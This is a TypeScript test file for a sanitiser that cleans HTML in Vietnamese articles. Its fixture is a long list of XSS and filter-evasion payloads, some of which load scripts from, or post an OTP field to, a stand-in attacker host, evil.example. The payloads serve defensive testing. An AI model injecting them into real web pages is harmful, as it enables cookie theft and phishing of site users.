import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { type RemovedMarkup, readArticleHtml } from './article-html.ts';

/** What an attack is put into, so that some text is left to read. */
const read = (html: string) => readArticleHtml(`<p>Chữ</p>${html}`);

const TAG = /<(\/?)([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*)( \/)?>/g;
const ALLOWED =
  /^(h2|h3|h4|p|div|br|hr|ul|ol|li|dl|dt|dd|blockquote|strong|em|u|s|sub|sup|a|table|caption|thead|tbody|tfoot|tr|th|td)$/;
const ATTRIBUTE = / (href|rel|start|colspan|rowspan|scope)="([^"<>]*)"/g;

/** What is wrong with markup, judged by its bytes and not by a parser: every `<` begins an allowed tag. */
function faultsOf(html: string): string[] {
  const faults: string[] = [];
  const rest = html.replace(TAG, (tag, _closing, name, attributes: string) => {
    if (!ALLOWED.test(name)) faults.push(tag);
    const others = attributes.replace(ATTRIBUTE, (_all, attribute, value: string) => {
      if (attribute === 'href' && !/^(https:\/\/|mailto:|tel:)/i.test(value)) faults.push(tag);
      return '';
    });
    if (others) faults.push(tag);
    return '';
  });
  if (/[<]/.test(rest)) faults.push(rest);
  return faults;
}

/** The OWASP filter-evasion list, and what has since got through sanitisers. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<script/xss src="https://evil.example/xss.js"></script>',
  '<<script>alert(1);//<</script>',
  '<script src=https://evil.example/xss.js?< B >',
  '<script src=//evil.example/.j>',
  '</script><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src="javascript:alert(1);">',
  '<img src=JaVaScRiPt:alert(1)>',
  '<img src=`javascript:alert("x, y")`>',
  '<img """><script>alert(1)</script>"\\>',
  '<img src=x onerror=alert(String.fromCharCode(88,83,83))>',
  '<img src= onmouseover="alert(1)">',
  '<img onmouseover="alert(1)">',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<img src="jav\tascript:alert(1);">',
  '<img src="jav&#x09;ascript:alert(1);">',
  '<img src="jav&#x0A;ascript:alert(1);">',
  '<img src=" &#14; javascript:alert(1);">',
  '<img dynsrc="javascript:alert(1)"><img lowsrc="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="javascript&colon;alert&lpar;1&rpar;">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="http://baohiemxahoi.gov.vn">x</a>',
  '<a href="https://baohiemxahoi.gov.vn@evil.example/">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="ftp://evil.example">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="/dang-nhap">x</a>',
  '<a href="https://evil.example" onclick="alert(1)" target="_blank" ping="https://evil.example">x</a>',
  "<a href='https://evil.example/\"><script>alert(1)</script>'>x</a>",
  '<a onmouseover="alert(document.cookie)">x</a>',
  '<a onmouseover=alert(document.cookie)>x</a>',
  '<p onclick=alert(1)>x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<div style="width: expression(alert(1));">x</div>',
  '<style>@import "https://evil.example/xss.css";</style>',
  "<style>li {list-style-image: url('javascript:alert(1)');}</style><ul><li>x</ul>",
  '<link rel="stylesheet" href="javascript:alert(1);">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
  '<base href="javascript:alert(1);//">',
  '<iframe src="javascript:alert(1);"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src=# onmouseover="alert(document.cookie)"></iframe>',
  '<frameset><frame src="javascript:alert(1);"></frameset>',
  '<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" allowscriptaccess="always">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<textarea></textarea/><img src=x onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><option><script>alert(1)</script></option></select>',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1);</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<? foo="><script>alert(1)</script>">',
  '<! foo="><script>alert(1)</script>">',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<input type="image" src="javascript:alert(1);" autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<form action="https://evil.example"><input name="otp"></form>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<td colspan="2&quot; onmouseover=&quot;alert(1)">x</td>',
  '<ol start="1&quot; onmouseover=&quot;alert(1)"><li>x</ol>',
  '<p/onclick=alert(1)>x',
  '<p\u000conclick=alert(1)>x',
  '<p \u0000onclick=alert(1)>x',
  '<p "onclick=alert(1)">x',
  '<p a=`>` onclick=alert(1)>x',
  '<a href="https://x.vn" title="&quot;><img src=x onerror=alert(1)>">x</a>',
  '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<p>&#x202e;gpj.exe</p>',
];

describe('readArticleHtml', () => {
  test.each(ATTACKS)('leaves nothing that runs, styles or leads astray of %j', (attack) => {
    const { html } = read(attack);
    expect(faultsOf(html)).toEqual([]);
    expect(html).not.toMatch(/\p{Cf}/u);
    expect(readArticleHtml(html).html).toBe(html);
  });

  test('leaves nothing of any mixture of attacks, and reading it again changes nothing', () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.constantFrom('<b>', '</b>', '<p>', '</p>', '<table>', '<td>', '<a href="https://x.vn">', '</a>', '<h1>', '"'),
      fc.string({ maxLength: 6 }),
    );
    const cut = fc.tuple(piece, fc.nat({ max: 60 })).map(([text, end]) => text.slice(0, end));
    fc.assert(
      fc.property(fc.array(fc.oneof(piece, cut), { maxLength: 12 }), (pieces) => {
        const { html } = read(pieces.join(''));
        expect(faultsOf(html)).toEqual([]);
        expect(readArticleHtml(html).html).toBe(html);
      }),
      { numRuns: 500 },
    );
  });

  test('keeps headings, paragraphs, lists, tables, emphasis and links', () => {
    const html =
      '<h2>Mức đóng</h2><p>Từ <strong>01/07/2026</strong>, xem <a href="https://baohiemxahoi.gov.vn/" rel="noopener noreferrer">cổng</a>.</p>' +
      '<ul><li>một</li></ul><table><tr><th scope="col" colspan="2">Vùng</th></tr></table>';
    expect(readArticleHtml(html)).toMatchObject({ html, removed: [] });
  });

  test('takes synonyms for what they mean, and adds to links what keeps the reader safe', () => {
    const { html } = readArticleHtml('<h1>A</h1><b>b</b><i>c</i><a href="https://x.vn?a=1&b=2">d</a>');
    expect(html).toBe(
      '<h2>A</h2><strong>b</strong><em>c</em><a href="https://x.vn/?a=1&amp;b=2" rel="noopener noreferrer">d</a>',
    );
  });

  test('tells the officer what was taken out, and how often', () => {
    const { removed } = read(
      '<img src=x onerror=alert(1)><p style="color:red" onclick=a()>a</p><p style="x">b</p><a href="http://x.vn">c</a><a>d</a>',
    );
    const expected: RemovedMarkup[] = [
      { kind: 'ELEMENT', name: 'img', count: 1 },
      { kind: 'ATTRIBUTE', name: 'style', count: 2 },
      { kind: 'ATTRIBUTE', name: 'onclick', count: 1 },
      { kind: 'LINK', name: 'http', count: 1 },
      { kind: 'LINK', name: 'other', count: 1 },
    ];
    expect(removed).toEqual(expected);
  });

  test('gives the text: an empty line parts paragraphs, lists and tables stay readable', () => {
    const { text } = readArticleHtml(
      '<h2>Hồ sơ</h2><p>Gồm <b>hai</b> giấy &amp; một ảnh:</p><ul><li>Tờ khai</li><li>Căn cước</li></ul>' +
        '<table><tr><th>Vùng</th><th>Mức</th></tr><tr><td>I</td><td>5.310.000</td></tr></table>',
    );
    expect(text).toBe('Hồ sơ\n\nGồm hai giấy & một ảnh:\n\n * Tờ khai\n * Căn cước\n\nVùng   Mức\nI      5.310.000');
  });

  test('composes what was decomposed', () => {
    const { html, text } = readArticleHtml(`<p>${'Tiếng Việt'.normalize('NFD')} e&#x301;</p>`);
    expect([html, text]).toEqual(['<p>Tiếng Việt é</p>', 'Tiếng Việt é']);
  });

  test.each(['', '   ', '<p></p>', '<script>alert(1)</script>', '<img src="https://x.vn/a.png">', '&nbsp;'])(
    'refuses %j, which holds nothing to read',
    (html) => {
      expect(() => readArticleHtml(html)).toThrow(expect.objectContaining({ facts: { argument: 'input.html' } }));
    },
  );

  test('refuses what is too long, and reads the longest and deepest there may be', () => {
    expect(() => readArticleHtml(`<p>${'a'.repeat(60_000)}</p>`)).toThrow('60000');
    const deep = readArticleHtml(`${'<div><b>'.repeat(3_000)}chữ${'</b></div>'.repeat(3_000)}`);
    expect(faultsOf(deep.html)).toEqual([]);
    expect(deep.text).toBe('chữ');
    expect(deep.html.length).toBeLessThan(500);
  });
});
